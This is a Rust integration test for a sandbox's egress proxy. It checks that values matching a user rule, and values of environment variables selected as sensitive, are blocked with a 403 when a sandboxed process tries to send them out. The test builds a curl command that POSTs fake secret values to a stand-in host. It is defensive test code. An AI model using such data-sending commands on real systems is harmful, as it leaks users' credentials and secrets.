//! Tests that the egress proxy blocks values that match the user's rules. The proxy also blocks the values of variables
//! that `BOTTLE_SENSITIVE_PREFIXES` selects, whether or not the bottle has these variables.

use anyhow::{Result, ensure};
use bottle_test_support::home::TestHome;

/// A sensitive value that exists only in the user's environment.
const MARKED: &str = "q8Zr3Wm6Xt1Kp5Vb";

/// A value that matches the user's rule.
const DESCRIBED: &str = "acme-12345678";

#[test]
fn user_rules_and_sensitive_environment_block_exfiltration() -> Result<()> {
    let mut home = TestHome::new()?;
    if !home.runs("described", "linux")? {
        return Ok(());
    }
    home.agent("sender", "---\nbottle: sender\n---\n")?;
    // No process listens at the route's target, so an allowed request gets 502.
    home.bottle(
        "sender",
        "---\nbackend: linux\nsupervise: false\n\
         env: {SHOP_KEY: literal-Xk3Vw9Qz}\n\
         agent_provider: {template: command, command: [sleep, '600']}\n\
         egress: {routes: [{host: app.test, ports: [80], connect_to: '127.0.0.1:9'}]}\n---\n",
    )?;
    home.write("home/.bottle/rules/acme.toml", "[[rules]]\nid = 'acme'\nregex = 'acme-[0-9]{8}'\n")?;
    home.env("AWS_SESSION", MARKED);
    home.env("BOTTLE_SENSITIVE_PREFIXES", "AWS_,SHOP_");
    let started = home.program(["start", "sender", "--label", "one", "--detach", "--yes"])?.run()?;
    ensure!(started.code == 0, "{}", started.transcript());
    ensure!(started.stderr.contains("the values of AWS_SESSION, SHOP_KEY"), "{}", started.stderr);
    ensure!(!started.transcript().contains(MARKED), "{}", started.transcript());
    for (said, status) in [
        ("nothing", "502"),
        (DESCRIBED, "403"),
        (MARKED, "403"),
        ("literal-Xk3Vw9Qz", "403"),
        // Twelve characters of the sensitive value, with separators.
        ("q8Zr.3Wm6.Xt1K", "403"),
    ] {
        let script = format!("curl -s -o /dev/null -w '%{{http_code}}' --data 'a={said}' http://app.test/x");
        let answer = home.program(["exec", "one", "--", "sh", "-c", &script])?.run()?;
        ensure!(answer.stdout == status, "{said}: {}", answer.transcript());
    }
    let _ = home.program(["stop", "one", "--time", "0", "-q"])?.run()?.expect_code(0);
    Ok(())
}
